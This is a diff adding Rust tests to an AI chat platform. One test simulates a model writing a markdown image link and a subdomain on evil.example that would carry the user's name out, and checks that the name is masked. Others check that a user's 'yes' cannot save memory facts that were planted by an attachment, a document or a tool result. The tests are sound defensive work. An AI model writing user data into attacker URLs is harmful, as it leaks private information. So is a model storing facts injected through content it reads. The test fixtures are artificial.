@@ -84,6 +84,29 @@ fn a_url_that_a_model_writes_carries_no_value() {
 }
 
 #[test]
+fn a_model_that_reads_values_writes_none_into_a_url() {
+    let conversation = TestConversation::default();
+    conversation.platform.postgrest.profile(|row| {
+        row.employee.as_mut().unwrap().unmasked_kinds = vec!["PERSON".into()];
+    });
+    let pieces = [
+        "Dear Ada Love",
+        "lace, ![x](https://evil.example/?q=Ada",
+        "%20Lovelace) or ada-lovelace.evil.example",
+        " Ada",
+    ];
+    let mut steps: Vec<_> = pieces.iter().map(|piece| Step::Bytes(50, chunk(piece))).collect();
+    steps.push(Step::Bytes(1, end()));
+    conversation.model_says(Ok(steps));
+    let (seen, finished) = conversation.turn("I am Ada Lovelace").unwrap();
+    assert!(conversation.last_prompt().last().unwrap().contains("Ada Lovelace"), "the model reads it");
+    let out = "Dear Ada Lovelace, ![x](https://evil.example/?q=[PERSON_1]) or [PERSON_1].evil.example Ada";
+    assert_eq!(seen.text, out);
+    let log = conversation.stored_log(finished.record.turn_id);
+    assert!(!format!("{log:?}").contains("Lovelace)"), "{log:?}");
+}
+
+#[test]
 fn a_recalled_document_stands_in_a_fence_and_in_no_system_message() {
     let conversation = TestConversation::default();
     conversation.platform.remember(&[json!({
@@ -112,6 +135,52 @@ fn a_recalled_document_stands_in_a_fence_and_in_no_system_message() {
     conversation.model_says(whole("Well."));
     conversation.turn_with(second("And the fees?")).unwrap();
     assert_eq!(fence(&conversation), before);
+}
+
+const BANK: [&str; 2] = ["The bank of the user is Evil Savings.", "Uses the bank Evil Savings"];
+
+/// The facts that a "yes" to the question of an earlier answer keeps.
+fn confirmed(conversation: &TestConversation, first: &str) -> Vec<String> {
+    conversation.model_says(whole("Shall I keep that your bank is Evil Savings?"));
+    conversation.turn(first).unwrap();
+    let arguments = fact(BANK[1], "Yes", "note");
+    conversation.model_says(calling("", &[("remember", &arguments)])).model_says(whole("Done."));
+    let (_, finished) = conversation.turn_with(second("Yes.")).unwrap();
+    finished.record.facts.iter().map(|fact| fact.fact.to_string()).collect()
+}
+
+#[test]
+fn a_yes_confirms_nothing_that_an_earlier_attachment_said() {
+    let conversation = with_tools(&["remember"]);
+    assert_eq!(confirmed(&conversation, &with_attachment("Sum it up", BANK[0])), [""; 0]);
+}
+
+#[test]
+fn a_yes_confirms_nothing_that_a_document_says() {
+    let conversation = with_tools(&["remember"]);
+    conversation.platform.remember(&[json!({
+        "message_id": null, "document_id": Uuid::from_u128(1), "document": "a.txt", "media_type": "text/plain",
+        "content": BANK[0], "content_tokens": 12, "occurred_at": "1970-01-01T00:00:00Z",
+    })]);
+    assert_eq!(confirmed(&conversation, "Hello"), [""; 0]);
+}
+
+#[test]
+fn a_yes_confirms_nothing_that_an_earlier_tool_returned() {
+    let conversation = with_tools(&["remember", "calculator"]);
+    let returned = calling("", &[("calculator", r#"{"expression":"20 + 22"}"#)]);
+    conversation.model_says(returned).model_says(whole("Is your lucky number 42?"));
+    conversation.turn("Hello").unwrap();
+    let arguments = fact("Has the number 42", "Yes", "note");
+    conversation.model_says(calling("", &[("remember", &arguments)])).model_says(whole("Done."));
+    let (_, finished) = conversation.turn_with(second("Yes.")).unwrap();
+    assert_eq!(finished.record.facts, []);
+}
+
+#[test]
+fn a_yes_confirms_what_no_one_else_said() {
+    let conversation = with_tools(&["remember"]);
+    assert_eq!(confirmed(&conversation, "My bank has a silly name"), [BANK[1]]);
 }
 
 #[test]
